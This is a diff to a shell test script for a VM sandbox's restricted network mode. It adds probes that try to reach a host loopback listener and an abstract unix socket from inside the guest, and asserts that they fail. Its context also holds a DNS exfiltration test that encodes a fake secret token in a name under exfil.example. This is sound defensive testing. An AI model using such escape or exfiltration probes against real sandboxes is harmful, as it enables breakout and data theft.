@@ -17,9 +17,9 @@
 #    an uplink namespace.
 # Skipped (77) only where QEMU, the guest kernel, root or nft is absent.
 #
-#   test-vm-net.sh FORGEYARD FY-NETPROBE ECHO-SERVER.PY
+#   test-vm-net.sh FORGEYARD FY-NETPROBE ECHO-SERVER.PY [FY-ATTACK]
 set -u
-FY=$1 PROBE=$2 ECHO=$3
+FY=$1 PROBE=$2 ECHO=$3 ATTACK=${4:-}
 command -v qemu-system-x86_64 >/dev/null || { echo "SKIP: qemu-system-x86_64 is not installed"; exit 77; }
 ls /boot/vmlinuz-* >/dev/null 2>&1 || { echo "SKIP: no guest kernel (/boot/vmlinuz-*; Debian: linux-image-amd64)"; exit 77; }
 if [ "$(id -u)" != 0 ]; then echo "SKIP: the fake internet and network mode restricted need root"; exit 77; fi
@@ -27,9 +27,10 @@ command -v nft >/dev/null || { echo "SKIP: nft missing (apt install nftables)"; 
 
 NS=fyt-vmnet-$$-$RANDOM GW=fyt-vmngw-$$-$RANDOM
 TMP=$(mktemp -d /tmp/fy-vm-net.XXXXXX)
-SRV= DNS=
+SRV= DNS= HL=
 fail=0
 cleanup() {
+    [ -n "$HL" ] && kill "$HL" 2>/dev/null && wait "$HL" 2>/dev/null
     [ -n "$SRV" ] && kill "$SRV" 2>/dev/null && wait "$SRV" 2>/dev/null
     [ -n "$DNS" ] && kill "$DNS" 2>/dev/null && wait "$DNS" 2>/dev/null
     ip netns del "$NS" 2>/dev/null
@@ -137,6 +138,25 @@ nothing_left() {
 }
 
 mkdir "$TMP/probe" && cp "$PROBE" "$TMP/probe/fy-netprobe" && chmod 755 "$TMP/probe" "$TMP/probe/fy-netprobe"
+[ -n "$ATTACK" ] && cp "$ATTACK" "$TMP/probe/fy-attack" && chmod 755 "$TMP/probe/fy-attack"
+# The attack suite's network probes: a listener on the host's loopback (its
+# port allowed by name: the guest's 127.0.0.1 is its own) and an abstract
+# unix socket of the host; neither may be reached, nor seen in /proc/net.
+AB=fy-vm-net-abstract-$$
+python3 -c '
+import socket, sys, select
+t = socket.socket(); t.bind(("127.0.0.1", 0)); t.listen(4)
+u = socket.socket(socket.AF_UNIX); u.bind("\0" + sys.argv[2]); u.listen(4)
+open(sys.argv[1], "w").write(str(t.getsockname()[1]))
+while True:
+    r, _, _ = select.select([t, u], [], [], 900)
+    if not r: break
+    for s in r:
+        c, _ = s.accept(); open(sys.argv[1] + ".hit", "a").write("hit\n"); c.close()
+' "$TMP/hostport" "$AB" &
+HL=$!
+for _ in $(seq 50); do [ -s "$TMP/hostport" ] && break; sleep 0.1; done
+HP=$(cat "$TMP/hostport")
 printf '198.51.100.1 mirror.test\n2001:db8::1 mirror.test\n' >"$TMP/hosts"
 chmod 644 "$TMP/hosts"
 X=aGVsbG8td29ybGQtc2VjcmV0LXRva2VuLTEyMzQ1Njc4OTA.exfil.example
@@ -181,10 +201,17 @@ echo "dns-exfil-direct \$(\$P dnsq 198.51.100.1 $X 1)" >&2
 echo "libc \$(\$P resolve mirror.test)" >&2
 getent hosts $X >/dev/null 2>&1; echo "getent-exfil \$?" >&2
 grep nameserver /etc/resolv.conf >&2
+A=/opt/fyprobe/fy-attack
+if [ -x \$A ]; then
+    echo "attack-tcp \$(\$A tcp $HP 2>&1)" >&2
+    echo "attack-abstract \$(\$A abstract $AB 2>&1)" >&2
+    echo "proc-net-unix \$(grep -c $AB /proc/net/unix /proc/1/net/unix 2>&1 | tr '\n' ' ')" >&2
+    echo "proc-net-dev \$(sed -n 's/^ *\([a-z0-9]*\):.*/\1/p' /proc/net/dev | sort | tr '\n' ' ')" >&2
+fi
 IN
 chmod 644 "$TMP/probe/probes.sh"
 run --policy "$TMP/vm.json" --network restricted --allow mirror.test:8080 --allow 198.51.100.1:9090/udp \
-    --allow 198.51.100.2:9090 --result "$TMP/r1.json" -- /bin/sh /opt/fyprobe/probes.sh >"$TMP/out" 2>"$TMP/err"
+    --allow 198.51.100.2:9090 --allow "127.0.0.1:$HP" --result "$TMP/r1.json" -- /bin/sh /opt/fyprobe/probes.sh >"$TMP/out" 2>"$TMP/err"
 rc=$?
 [ $rc = 0 ] || { bad "restricted guest exited $rc"; cat "$TMP/err"; }
 while read -r name res; do
@@ -202,6 +229,14 @@ grep -qx "dns-exfil rcode=5 an=0" "$TMP/err" && grep -qx "dns-exfil-direct no an
     grep -qx "getent-exfil 2" "$TMP/err" && ok "a name carrying data is refused by the stub and unanswered elsewhere" ||
     { bad "the exfil name"; grep -E "^(dns|getent)" "$TMP/err"; }
 grep -qx "nameserver 127.0.0.53" "$TMP/err" && ok "resolv.conf names only the stub" || bad "resolv.conf"
+if [ -n "$ATTACK" ]; then
+    grep -q "^attack-tcp denied ECONNREFUSED" "$TMP/err" && grep -q "^attack-abstract denied ECONNREFUSED" "$TMP/err" &&
+        [ ! -e "$TMP/hostport.hit" ] && ok "attack probes: the host's loopback (allowed by name) and abstract socket unreachable" ||
+        { bad "attack probes reached the host"; grep ^attack "$TMP/err"; }
+    grep -qx "proc-net-unix /proc/net/unix:0 /proc/1/net/unix:0 " "$TMP/err" &&
+        grep -qx "proc-net-dev eth0 lo " "$TMP/err" && ok "attack probes: no host socket or interface in the guest's /proc/net" ||
+        { bad "the guest's /proc/net"; grep ^proc "$TMP/err"; }
+fi
 sleep 0.3
 [ ! -s "$TMP/dnslog" ] && ok "the fake internet's DNS server never saw a query" ||
     bad "the fake internet's DNS server got: $(cat -v "$TMP/dnslog")"
